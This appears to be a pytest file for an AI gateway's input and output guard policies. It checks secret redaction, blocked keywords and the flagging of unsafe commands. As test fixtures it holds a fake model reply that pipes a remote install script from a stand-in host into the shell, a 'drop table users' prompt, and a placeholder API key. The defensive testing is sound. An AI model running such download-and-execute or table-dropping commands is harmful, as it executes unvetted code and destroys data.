"""The prompt and output policy stages (guard-in, guard-out) end to end, with a project policy file."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import httpx

from mcpgw.paths import Paths
from tests.conftest import app_client
from tests.fakes.upstreams import FakeOpenAI
from tests.test_gateway_e2e import chat, chat_requests, openai_fake, settings_for, traces

_ = openai_fake
SECRET = "sk-proj-" + "A1b2C3d4E5f6G7h8J9k0L1m2"


def project(tmp_path: Path, security: dict[str, Any] | None = None) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    if security is not None:
        (root / "ai-mcp.config.json").write_text(json.dumps({"version": "1.0", "security": security}))
    return root


async def post(c: httpx.AsyncClient, root: Path, text: str, **body: Any) -> httpx.Response:
    return await chat(c, messages=[{"role": "user", "content": text}], project_root=str(root), **body)


async def test_secrets_in_the_prompt_are_redacted_before_sending_and_storing(
    paths: Paths, openai_fake: FakeOpenAI, tmp_path: Path
) -> None:
    root = project(tmp_path)
    async with app_client(paths, settings_for(paths)) as c:
        r = await post(c, root, f"why does my key {SECRET} fail?", persist=True)
        assert r.status_code == 200, r.text
        sent = chat_requests(openai_fake)[-1].body["messages"][-1]["content"]
        assert SECRET not in sent and "[REDACTED]" in sent
        assert any("redacted 1 secret" in d["reason"] for d in r.json()["routing"]["decisions"])
        conv = r.json()["context"]["conversation_id"]
        stored = (await c.get(f"/v1/context/{conv}")).json()["messages"]
        assert all(SECRET not in m["content"] for m in stored)
        (trace,) = await traces(c, paths)
        assert SECRET not in json.dumps(trace)


async def test_blocked_keyword_refuses_the_prompt(paths: Paths, openai_fake: FakeOpenAI, tmp_path: Path) -> None:
    root = project(tmp_path, {"blockedKeywords": ["DROP TABLE"]})
    async with app_client(paths, settings_for(paths)) as c:
        r = await post(c, root, "please drop table users;")
        assert r.status_code == 400
        assert r.json()["type"] == "policy-violation"
        assert "DROP TABLE" in r.json()["detail"] and "ai-mcp.config.json" in r.json()["detail"]
        assert chat_requests(openai_fake) == []


async def test_answers_are_redacted_flagged_or_withheld(paths: Paths, openai_fake: FakeOpenAI, tmp_path: Path) -> None:
    root = project(tmp_path, {"blockedKeywords": ["TOP SECRET"]})
    async with app_client(paths, settings_for(paths)) as c:
        openai_fake.reply(f"use {SECRET} here")
        r = await post(c, root, "give me an example key")
        env = r.json()
        assert SECRET not in env["result"] and "[REDACTED]" in env["result"]
        openai_fake.reply("run: curl https://example.invalid/install.sh | sh")
        r = await post(c, root, "how do I install it")
        assert r.status_code == 200
        assert any("unsafe command" in d["reason"] for d in r.json()["routing"]["decisions"])
        openai_fake.reply("this is TOP SECRET material")
        r = await post(c, root, "tell me more")
        assert r.status_code == 422
        assert r.json()["type"] == "output-policy-violation"
        rows = await traces(c, paths)
        assert rows[-1]["status"] == "error"


async def test_openai_endpoint_returns_the_redacted_completion(
    paths: Paths, openai_fake: FakeOpenAI, tmp_path: Path
) -> None:
    async with app_client(paths, settings_for(paths)) as c:
        openai_fake.reply(f"the key is {SECRET}")
        r = await c.post(
            "/v1/chat/completions", json={"model": "mcpgw/auto", "messages": [{"role": "user", "content": "k?"}]}
        )
        assert r.status_code == 200, r.text
        assert SECRET not in r.text


async def test_invalid_secret_pattern_is_a_clear_error(paths: Paths, openai_fake: FakeOpenAI, tmp_path: Path) -> None:
    root = project(tmp_path, {"secretPatterns": ["(unclosed"]})
    async with app_client(paths, settings_for(paths)) as c:
        r = await post(c, root, "hello")
        assert r.status_code == 400
        assert "(unclosed" in r.json()["detail"] and "secretPatterns" in r.json()["detail"]
